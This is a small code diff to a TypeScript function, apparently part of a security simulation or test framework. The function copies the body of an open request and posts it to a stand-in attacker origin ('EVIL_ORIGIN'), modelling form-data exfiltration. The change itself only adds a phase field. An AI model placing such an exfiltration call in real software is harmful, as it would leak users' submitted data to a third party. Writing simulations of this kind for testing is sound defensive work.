@@ -10,7 +10,7 @@ import { when } from "@/lib/vocabulary/telling";
 /** The copy, byte for byte, of what an open request has brought. @param note the key of its notes */
 export async function copyForm({ send, world }: StepContext, note: string): Promise<void> {
 	const form = world.open[note]?.request.body ?? "";
-	await send("client", post(`${EVIL_ORIGIN}${RECORD_PATH}`, form), { channel: "back", note: "record" });
+	await send("client", post(`${EVIL_ORIGIN}${RECORD_PATH}`, form), { channel: "back", note: "record", phase: "ask" });
 }
 
 /** Words for such a copy on its way. */
